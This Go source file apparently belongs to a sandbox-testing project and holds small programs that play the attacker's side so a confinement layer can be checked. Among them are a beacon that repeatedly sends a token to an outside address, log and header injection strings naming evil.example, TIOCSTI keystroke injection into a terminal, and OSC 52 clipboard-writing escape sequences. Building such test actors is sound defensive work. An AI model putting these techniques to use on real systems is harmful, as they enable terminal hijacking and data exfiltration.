// Package actor holds the small programs that stand beside an attack: its
// victim, a listener, a beacon, and what is done to a terminal.
//
// They read no secret and judge nothing. Its invariant: each ends by itself, or
// with the machine that it plays in.
package actor

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/bailey-project/bailey/internal/probe"
	"github.com/bailey-project/bailey/internal/probe/wire"
)

// Victim is a process of the user's: it says where in its memory a canary
// lies, and makes mark when somebody signals it.
func Victim(mark string) error {
	// Ordinary programs may be traced by their user; Yama would forbid it.
	_ = unix.Prctl(unix.PR_SET_PTRACER, ^uintptr(0), 0, 0, 0)
	secret := []byte(os.Getenv("MEMORY"))
	got := make(chan os.Signal, 1)
	signal.Notify(got, unix.SIGUSR1)
	fmt.Fprintln(os.Stdout, uintptr(unsafe.Pointer(&secret[0])))
	for range got {
		if err := os.WriteFile(mark, secret[:0], 0o666); err != nil {
			return err
		}
	}
	return nil
}

// Serve listens on every address until it is killed.
func Serve(port string) error {
	l, err := net.Listen("tcp", ":"+port)
	if err != nil {
		return err
	}
	fmt.Fprintln(os.Stdout, "up")
	for {
		c, err := l.Accept()
		if err != nil {
			return err
		}
		c.Close()
	}
}

// Beacon sends a token outside for as long as it lives, a minute at most.
func Beacon(port, token string) error {
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for range 6000 {
		<-tick.C
		c, err := net.DialTimeout("tcp", net.JoinHostPort(probe.Ext4, port), time.Second)
		if err == nil {
			_, _ = io.WriteString(c, token+"\n")
			c.Close()
		}
	}
	return nil
}

// Forge asks for names that are lines and escapes, and prints one of them.
func Forge() error {
	const name = "x\nFORGED allowed evil.example\x1b]0;pwned\x07"
	if c, err := net.Dial("udp", "198.18.0.1:53"); err == nil {
		_, _ = c.Write(wire.Query(name+".example", 1))
		c.Close()
	}
	for _, port := range []string{"80", "443"} {
		c, err := net.DialTimeout("tcp", net.JoinHostPort(probe.Ext4, port), time.Second)
		if err != nil {
			continue
		}
		_ = c.SetDeadline(time.Now().Add(time.Second))
		_, _ = io.WriteString(c, "GET /"+name+" HTTP/1.1\r\nHost: "+name+"\r\nUser-Agent: "+name+"\r\n\r\n")
		_, _ = c.Read(make([]byte, 256))
		c.Close()
	}
	if os.Getenv("BAILEY_SESSION") == "" {
		fmt.Fprintln(os.Stdout, name)
	}
	return nil
}

// TTY does to the terminal what args says.
func TTY(kind string) error {
	switch kind {
	case "sti":
		b := []byte{'#'}
		for _, n := range []uintptr{unix.TIOCSTI, 1<<32 | unix.TIOCSTI} {
			tell("typed into the terminal", wire.Call(unix.SYS_IOCTL, 0, n, wire.Pointer(b)))
		}
	case "ldisc":
		disc := []byte{0, 0, 0, 0}
		tell("set a line discipline", wire.Call(unix.SYS_IOCTL, 0, unix.TIOCSETD, wire.Pointer(disc)))
		paste := make([]byte, 32)
		paste[0] = 3
		tell("pasted", wire.Call(unix.SYS_IOCTL, 0, unix.TIOCLINUX, wire.Pointer(paste)))
	case "escapes":
		fmt.Fprint(os.Stdout, "\x1b]52;c;cHduZWQ=\x07\x1b]52;c;?\x07\x1bPtmux;\x1b\x1b]52;c;cHduZWQ=\x07\x1b\\",
			"\u009d52;c;cHduZWQ=\u009c", "\x1b[21t\x1b[6n\x1bP$q\"p\x1b\\\x1b]0;pwned\x07\u009b21t")
	case "modes":
		fmt.Fprint(os.Stdout, "\x1b[?1049h\x1b[?2004h\x1b[?1003h\x1b[?1006h")
	}
	fmt.Fprintln(os.Stdout, "tty done")
	return nil
}

func tell(what string, err error) {
	if err == nil {
		fmt.Fprintln(os.Stdout, "GOT "+what)
		return
	}
	fmt.Fprintln(os.Stdout, "HOW "+wire.Errno(err))
}
